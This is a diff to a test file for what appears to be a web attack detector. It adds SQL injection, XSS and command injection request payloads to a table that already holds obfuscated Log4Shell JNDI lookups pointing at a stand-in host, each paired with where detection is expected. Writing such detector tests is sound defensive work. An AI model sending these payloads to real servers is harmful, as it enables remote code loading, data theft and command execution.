@@ -86,6 +86,14 @@ const PLACES: readonly [string, string, number, string, string][] = [
   ['log4shell in a JSON body', post('application/json', '{"user":"${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.7/a}"}'), LOG4SHELL, 'json', 'user'],
   ['log4shell in a cookie', get('/', 'Cookie: JSESSIONID=${jndi:dns://198.51.100.7/x}\r\n'), LOG4SHELL, 'cookie', 'JSESSIONID'],
   ['log4shell in the Accept header', get('/', 'Accept: ${jNdI:ldap://198.51.100.7/a}\r\n'), LOG4SHELL, 'header', 'accept'],
+  [
+    "sqli: sqlmap's stacked query behind an `')) AS x WHERE` boundary in a urlencoded body",
+    post('application/x-www-form-urlencoded', 'username=ann%27%29%29+AS+JoGg+WHERE+5897%3D5897%3BSELECT+LIKE%28CHAR%2865%2C66%29%2CUPPER%28HEX%28RANDOMBLOB%28100000000%2F2%29%29%29%29--&password=x'),
+    SQLI, 'body', 'username',
+  ],
+  ["sqli: sqlmap's MAKE_SET boolean in the query", get('/item?id=1%29+AND+MAKE_SET%288246%3D2012%2C6693%29+AND+%285121%3D2007'), SQLI, 'query', 'id'],
+  ['xss: a JavaScript string break in the query', get("/search?q=%27-alert(1)-%27"), XSS, 'query', 'q'],
+  ['command injection: brace expansion in the query', get('/ping?host=127.0.0.1%3B%7Buname%2C-a%7D'), CMDI, 'query', 'host'],
 ];
 
 describe('web attacks in every part of a request', () => {
